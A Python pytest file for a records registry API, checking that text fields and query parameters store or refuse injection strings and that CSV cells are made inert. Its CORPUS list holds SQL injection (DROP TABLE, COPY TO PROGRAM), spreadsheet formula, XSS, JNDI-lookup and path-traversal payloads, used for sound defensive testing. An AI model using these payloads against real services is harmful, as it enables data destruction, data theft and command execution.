"""Text that other software would run: it is stored as it is, or refused, and nothing else happens."""

from collections.abc import Iterator
from copy import deepcopy
from typing import Any
from uuid import uuid4

import httpx
import pytest

from registry.api.records.kind import Kind
from registry.api.report_csv import inert
from registry.domain.access import Role
from tests.conftest import SignIn
from tests.factories.bodies import ALL_KINDS, OF_PEOPLE, Body, a_fresh
from tests.factories.posted import body_of, posted_person
from tests.factories.specification import SPEC
from tests.openapi_rules import Json, operations, resolve

CORPUS = (
    "' OR '1'='1",
    "'; DROP TABLE person; --",
    '" UNION SELECT number FROM identity_document --',
    "1); SELECT pg_sleep(10); --",
    "$$; COPY person TO PROGRAM 'id'; $$",
    "E'\\x27'||chr(39)||'",
    "%s %(id)s {0} {person} :id $1 %27",
    '=HYPERLINK("http://elsewhere.example","Nguyễn")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>&amp;",
    "${jndi:ldap://elsewhere.example/a}{{7*7}}",
    "../../../etc/passwd",
    "\\",
)
"""Injections into SQL, formats, spreadsheets, pages, templates, paths; all fit a line of text."""

Pointer = tuple[str | int, ...]


def texts(schema: Json, root: Json, at: Pointer = ()) -> Iterator[Pointer]:
    """Walk to every free text that a schema takes."""
    schema = resolve(root, schema)
    for option in schema.get("anyOf", ()):
        yield from texts(option, root, at)
    kind = schema.get("type")
    if kind == "string" and not {"enum", "const", "format"} & schema.keys():
        yield at
    elif kind == "array":
        yield from texts(schema["items"], root, (*at, 0))
    elif kind == "object":
        for name, inner in schema.get("properties", {}).items():
            yield from texts(inner, root, (*at, name))


def placed(body: Any, at: Pointer, text: str) -> Any:  # noqa: ANN401 - JSON is anything
    """Put a text where a pointer points to."""
    if not at:
        return text
    step, *rest = at
    if isinstance(step, int):
        return [placed(None, tuple(rest), text)]
    return {**(body or {}), step: placed((body or {}).get(step), tuple(rest), text)}


def found(body: Any, at: Pointer) -> Any:  # noqa: ANN401 - JSON is anything
    for step in at:
        body = body[step]
    return body


def of_kinds() -> list[Any]:
    cases = []
    for kind in ALL_KINDS:
        schema = kind.create.model_json_schema()
        pointers = texts(schema, schema | {"components": {}})
        cases += [pytest.param(kind, at, id=f"{kind.singular} {'/'.join(map(str, at))}") for at in pointers]
    return cases


def of_operations() -> list[Any]:
    """Every text in every body of the specification."""
    cases = []
    for place, operation in operations(SPEC):
        for kind, media in operation.get("requestBody", {}).get("content", {}).items():
            pointers = list(texts(media["schema"], SPEC))
            cases.append(pytest.param(place, kind, media, pointers, id=place))
    return cases


def of_queries() -> list[Any]:
    cases = []
    for place, operation in operations(SPEC):
        named = [
            parameter["name"]
            for parameter in (resolve(SPEC, each) for each in operation.get("parameters", ()))
            if parameter["in"] == "query"
        ]
        if named:
            cases.append(pytest.param(place, named, id=place))
    return cases


@pytest.fixture(scope="module")
async def manager(keeper: httpx.AsyncClient) -> httpx.AsyncClient:
    """Somebody who may write every kind."""
    return keeper


@pytest.fixture(scope="module")
async def person(manager: httpx.AsyncClient) -> str:
    return await posted_person(manager)


@pytest.fixture(scope="module")
async def callers(sign_in: SignIn) -> list[httpx.AsyncClient]:
    """One caller for each kind of operation: somebody may do each."""
    roles = (Role.PROVINCE_MANAGER, Role.HEALTH_OFFICER, Role.ADMINISTRATOR, Role.AUDITOR)
    return [await sign_in(role) for role in roles]


async def who_may(callers: list[httpx.AsyncClient], method: str, address: str, **sent: Any) -> httpx.AsyncClient:  # noqa: ANN401 - of a request
    """Pick the first caller who is not refused for the role: the others' texts are not looked at."""
    for caller in callers:
        answer = await caller.request(method, address, **sent)
        if answer.status_code != 403 or body_of(answer)["code"] != "insufficient_scope":
            return caller
    raise AssertionError(f"nobody may {method} {address}")


def test_the_walks_see_texts() -> None:
    assert len(of_kinds()) > 20
    assert len(of_operations()) > 30
    assert len(of_queries()) > 10


@pytest.mark.parametrize(("kind", "at"), of_kinds())
async def test_a_record_keeps_a_text_as_it_is_or_refuses_it(
    kind: Kind, at: Pointer, manager: httpx.AsyncClient, person: str
) -> None:
    path = f"/v1/persons/{person}/{kind.collection}" if kind in OF_PEOPLE else f"/v1/{kind.collection}"
    for text in CORPUS:
        body: Body = placed(a_fresh(kind), at, text)
        answer = await manager.post(path, json=body)
        assert answer.status_code in {201, 409, 422}, (text, answer.text)
        if answer.status_code == 201:
            shown = body_of(answer)
            assert shown.get(str(at[0])) is None or found(shown, at) == text, (text, shown)


@pytest.mark.parametrize(("place", "content_type", "media", "pointers"), of_operations())
async def test_no_text_in_any_body_makes_the_service_fail(
    place: str, content_type: str, media: Json, pointers: list[Pointer], callers: list[httpx.AsyncClient], person: str
) -> None:
    method, path = place.split(" ", 1)
    address = path.replace("{person_id}", person).replace("{id}", str(uuid4()))
    examples = media.get("examples") or {"": {"value": {}}}
    example = resolve(SPEC, next(iter(examples.values())))["value"]
    headers = {"Content-Type": content_type, "If-Match": '"v1-x"'}
    caller = await who_may(callers, method, address, json=example, headers=headers)
    for number, at in enumerate(pointers):
        for shift in range(3):
            text = CORPUS[(3 * number + shift) % len(CORPUS)]
            body = placed(deepcopy(example), at, text)
            answer = await caller.request(method, address, json=body, headers=headers)
            assert answer.status_code < 500, (at, text, answer.text)


@pytest.mark.parametrize(("place", "names"), of_queries())
async def test_no_text_in_any_query_makes_the_service_fail(
    place: str, names: list[str], callers: list[httpx.AsyncClient], person: str
) -> None:
    method, path = place.split(" ", 1)
    address = path.replace("{person_id}", person).replace("{id}", str(uuid4()))
    caller = await who_may(callers, method, address)
    for number, name in enumerate(names):
        for shift in range(4):
            text = CORPUS[(4 * number + shift) % len(CORPUS)]
            answer = await caller.request(method, address, params={name: text})
            assert answer.status_code < 500, (name, text, answer.text)


async def test_everybody_is_still_there(manager: httpx.AsyncClient, person: str) -> None:
    assert (await manager.get(f"/v1/persons/{person}")).status_code == 200


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_a_spreadsheet_would_run_is_made_inert(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Phường 1", "1-2", "", "'=1"])
def test_any_other_cell_stays(text: str) -> None:
    assert inert(text) == text
